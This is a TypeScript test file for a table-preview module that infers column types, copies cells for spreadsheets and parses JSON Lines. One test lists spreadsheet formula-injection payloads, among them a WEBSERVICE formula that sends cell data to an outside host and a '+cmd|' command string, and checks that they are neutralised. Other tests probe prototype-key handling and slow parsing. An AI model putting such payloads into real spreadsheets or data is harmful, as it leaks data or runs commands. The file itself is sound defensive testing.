import assert from 'node:assert/strict';
import { filled, JsonLinesTable, looksLikeJsonLines } from '../../../../../src/core/s3/previews/jsonLines';
import { copiedCells, isHeader, shownCell, textColumns, typeOfTexts } from '../../../../../src/core/s3/previews/table';

describe('a table of texts', () => {
  it('tells the narrowest type that all values have', () => {
    assert.equal(typeOfTexts(['1', '-2', '', null]), 'integer');
    assert.equal(typeOfTexts(['1', '2.50', '1e9']), 'decimal');
    assert.equal(typeOfTexts(['true', 'FALSE']), 'boolean');
    assert.equal(typeOfTexts(['2026-01-31']), 'date');
    assert.equal(typeOfTexts(['2026-01-31T10:00:00Z', '2026-01-31 10:00']), 'timestamp');
    assert.equal(typeOfTexts(['2026-01-31', '7']), 'text');
    assert.equal(typeOfTexts(['', null]), '');
  });

  it('takes its first row for names only where it can be', () => {
    assert.ok(isHeader(['id', 'name']));
    assert.ok(!isHeader(['1001', '2026-01-01', 'C7']));
    assert.ok(!isHeader(['a', 'a']));
    assert.ok(!isHeader(['a', '']));
    assert.ok(!isHeader([]));
  });

  it('aligns numbers, and only them', () => {
    const columns = textColumns(['a', 'b'], [['1', '2026-01-01'], ['2']]);
    assert.deepEqual(
      columns.map(({ numeric }) => numeric),
      [true, false],
    );
  });

  it('cuts long values, but no character', () => {
    assert.equal(shownCell('short'), 'short');
    assert.equal(shownCell(null), null);
    const cut = shownCell(`${'x'.repeat(1999)}🚀🚀`) ?? '';
    assert.equal(cut, `${'x'.repeat(1999)}…`);
  });

  it('is copied as spreadsheets take it', () => {
    const rows = [
      ['a\tb', null, 'c'],
      ['say "x"', 'y', 'z'],
    ];
    const copy = (firstRow: number, lastRow: number, firstColumn: number, lastColumn: number): string =>
      copiedCells(rows, { firstRow, lastRow, firstColumn, lastColumn });
    assert.equal(copy(0, 0, 0, 0), 'a\tb', 'one value as it is');
    assert.equal(copy(0, 1, 0, 1), '"a\tb"\t\n"say ""x"""\ty');
    assert.equal(copy(5, 5, 5, 5), '');
  });

  it('is no formula for a spreadsheet, unless it is wanted letter by letter', () => {
    const formulas = ['=WEBSERVICE("https://x/?"&A1)', '+cmd|x', '-2+3', '@SUM(A1)', ' =1', '\t=1', '|x'];
    const harmless = ['-5', '+1.5e3', '-.5', "'=1", 'a=1', '', '2024-01-01'];
    const range = { firstRow: 0, lastRow: 0, firstColumn: 0, lastColumn: formulas.length + harmless.length - 1 };
    const unquoted = (text: string) => (/^"[^]*"$/.test(text) ? text.slice(1, -1).replaceAll('""', '"') : text);
    const cells = copiedCells([[...formulas, ...harmless]], range)
      .match(/"(?:[^"]|"")*"|[^\t]+|(?<=\t)(?=\t)/g)
      ?.map(unquoted);
    assert.deepEqual(cells, [...formulas.map((text) => `'${text}`), ...harmless]);
    assert.equal(copiedCells([['=1', 'x']], { firstRow: 0, lastRow: 0, firstColumn: 0, lastColumn: 1 }, true), '=1\tx');
  });
});

describe('JSON Lines as a table', () => {
  it('has the union of all names as columns, in the order they come', () => {
    const table = new JsonLinesTable();
    assert.deepEqual(filled(table.row('{"a":1,"b":"x"}')), ['1', 'x']);
    assert.deepEqual(filled(table.row('{"c":[1,{"d":null}],"a":null}')), [null, null, '[1,{"d":null}]']);
    assert.deepEqual(
      table.columns.map(({ name, type, numeric }) => [name, type, numeric]),
      [
        ['a', 'number', true],
        ['b', 'text', false],
        ['c', 'array', false],
      ],
    );
  });

  it('keeps every digit', () => {
    const table = new JsonLinesTable();
    assert.deepEqual(
      filled(table.row('{"id":9007199254740993,"n":{"big":12345678901234567890,"s":"9007199254740993"}}')),
      ['9007199254740993', '{"big":12345678901234567890,"s":"9007199254740993"}'],
    );
    assert.equal(table.columns[0]?.numeric, true);
  });

  it('takes no text for a number, whatever marks it has in it', () => {
    const table = new JsonLinesTable();
    const line =
      '{"a":"\\u0000n1","b":["\\u0000n2","x\\"\\u0000n3",12345678901234567890],"\\u0000n":{"\\u0000t":"\\u0000t"}}';
    assert.deepEqual(filled(table.row(line)), [
      '\0n1',
      '["\\u0000n2","x\\"\\u0000n3",12345678901234567890]',
      '{"\\u0000t":"\\u0000t"}',
    ]);
    assert.deepEqual(
      table.columns.map(({ name, type }) => [name, type]),
      [
        ['a', 'text'],
        ['b', 'array'],
        ['\0n', 'object'],
      ],
    );
  });

  it('is read in time that grows with its length alone', () => {
    const table = new JsonLinesTable();
    for (const line of [
      `{"a":"${'\\"'.repeat(500_000)}`,
      `{"a":"${'\\'.repeat(500_000)}`,
      `{"a":${'"'.repeat(500_000)}`,
    ]) {
      const started = performance.now();
      assert.equal(filled(table.row(line))[0], line);
      assert.ok(performance.now() - started < 1000);
    }
  });

  it('has no more columns than are shown, and says so', () => {
    const table = new JsonLinesTable();
    table.row(JSON.stringify(Object.fromEntries(Array.from({ length: 2001 }, (_, index) => [`n${index}`, index]))));
    assert.equal(table.columns.length, 2000);
    assert.ok(table.isCut);
    assert.throws(() => table.row('['.repeat(1001)), { kind: 'strangeAnswer' });
    assert.deepEqual(filled(table.row(`{"n0":${'['.repeat(900)}${']'.repeat(900)}}`)), [
      '['.repeat(900) + ']'.repeat(900),
    ]);
  });

  it('shows a line that is no object as it is', () => {
    const table = new JsonLinesTable();
    table.row('{"a":1}');
    assert.deepEqual(filled(table.row('{"a":')), [null, '{"a":']);
    assert.deepEqual(filled(table.row('[1,2]')), [null, '[1,2]']);
    assert.deepEqual(
      table.columns.map(({ name }) => name),
      ['a', '(no object)'],
    );
  });

  it('keeps names that objects have anyway', () => {
    const table = new JsonLinesTable();
    assert.deepEqual(filled(table.row('{"__proto__":"p","constructor":"c"}')), ['p', 'c']);
  });

  it('is told by its first lines', () => {
    assert.ok(looksLikeJsonLines('{"a":1}\n{"a":2}\n{"a":'));
    assert.ok(!looksLikeJsonLines('{\n  "a": 1\n}\n'));
    assert.ok(!looksLikeJsonLines('a,b\n1,2\n'));
    assert.ok(!looksLikeJsonLines(''));
  });
});
